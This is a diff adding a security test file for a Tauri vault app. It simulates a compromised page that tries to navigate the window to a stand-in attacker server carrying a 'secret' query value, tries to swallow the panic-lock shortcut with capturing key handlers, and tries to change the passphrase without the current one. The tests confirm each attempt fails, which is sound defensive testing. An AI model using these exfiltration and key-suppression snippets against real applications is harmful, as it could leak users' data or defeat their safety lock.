@@ -1,0 +1,113 @@
+// Attacks on the shell from the page, in the real window: a compromised page tries to
+// navigate the window (or a new one) off the app to carry data away, tries to keep the
+// panic shortcut from locking, and tries to change the passphrase without knowing it.
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { click, createVault, el, openApp, realKeys, startDriver, stopDriver, type, waitText, work, type Browser } from "./harness";
+
+const PASS = "security test passphrase 7";
+const NEW_PASS = "a second passphrase for the vault";
+const home = join(work, "security");
+
+// A server on this machine stands in for the adversary's: a navigation the window
+// allowed would reach it.
+let server: Server;
+let port = 0;
+const requests: string[] = [];
+
+async function nav(b: Browser, name: string): Promise<void> {
+  await click(b, `button[data-nav=${name}]`);
+}
+
+describe("the shell against a compromised page", () => {
+  let b: Browser;
+
+  beforeAll(async () => {
+    server = createServer((req, res) => {
+      requests.push(req.url ?? "");
+      res.end("<p>exfiltrated</p>");
+    });
+    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
+    port = (server.address() as AddressInfo).port;
+    await startDriver();
+    b = await openApp(home);
+    await createVault(b, PASS);
+  });
+
+  afterAll(async () => {
+    await b?.deleteSession();
+    stopDriver();
+    server?.close();
+  });
+
+  it("keeps the window on the app when the page navigates away or opens a window", async () => {
+    const origin = await b.getUrl();
+    expect(origin).toMatch(/^tauri:\/\/localhost/);
+    // A marker in this document: it survives only if the document is never replaced.
+    await b.execute(() => {
+      (window as unknown as { __stay?: number }).__stay = 7;
+    });
+    const target = `http://127.0.0.1:${port}/x?secret=Канарейка`;
+    await b.execute((url: string) => {
+      location.href = url;
+    }, target);
+    await b.execute((url: string) => {
+      window.open(url, "_blank");
+    }, `${target}&via=open`);
+    await b.execute((url: string) => {
+      const a = document.createElement("a");
+      a.href = url;
+      a.target = "_top";
+      document.body.append(a);
+      a.click();
+      a.remove();
+    }, `${target}&via=link`);
+    // An allowed navigation would reach the local server within milliseconds; give it
+    // ample time to show up, then check that nothing did.
+    for (let i = 0; i < 20 && requests.length === 0; i++) await b.pause(100);
+    expect(requests).toEqual([]);
+    expect(await b.getUrl()).toBe(origin);
+    expect(await b.getWindowHandles()).toHaveLength(1);
+    expect(await b.execute(() => (window as unknown as { __stay?: number }).__stay)).toBe(7);
+    // The app still works.
+    await nav(b, "settings");
+    await el(b, "#current-pass");
+  });
+
+  it("asks for the current passphrase before changing it", async () => {
+    await nav(b, "settings");
+    await type(b, "#current-pass", "not the passphrase");
+    await type(b, "#change-pass", NEW_PASS);
+    await type(b, "#change-pass-confirm", NEW_PASS);
+    await click(b, "[data-testid=change-pass-submit]");
+    await waitText(b, "[role=alert]", /does not open this vault/);
+    // The old passphrase still opens the vault, the one the page chose does not.
+    await type(b, "#current-pass", PASS);
+    await type(b, "#change-pass", NEW_PASS);
+    await type(b, "#change-pass-confirm", NEW_PASS);
+    await click(b, "[data-testid=change-pass-submit]");
+    await waitText(b, "[role=status]", /passphrase was changed/);
+  });
+
+  it("locks on the panic shortcut even when the page tries to swallow it", async () => {
+    await nav(b, "list");
+    await el(b, "[data-testid=new-testimony]");
+    // A page-level handler could be stopped like this; the shell's cannot.
+    await b.execute(() => {
+      for (const t of [window, document]) {
+        t.addEventListener("keydown", (e) => {
+          e.preventDefault();
+          e.stopImmediatePropagation();
+        }, { capture: true });
+      }
+    });
+    await realKeys(b, ["Control_L", "Shift_L", "l"]);
+    await el(b, "#passphrase");
+    // The passphrase changed above is the one that opens it now.
+    await type(b, "#passphrase", NEW_PASS);
+    await click(b, "form button[type=submit]");
+    await el(b, "[data-testid=new-testimony]");
+  });
+});
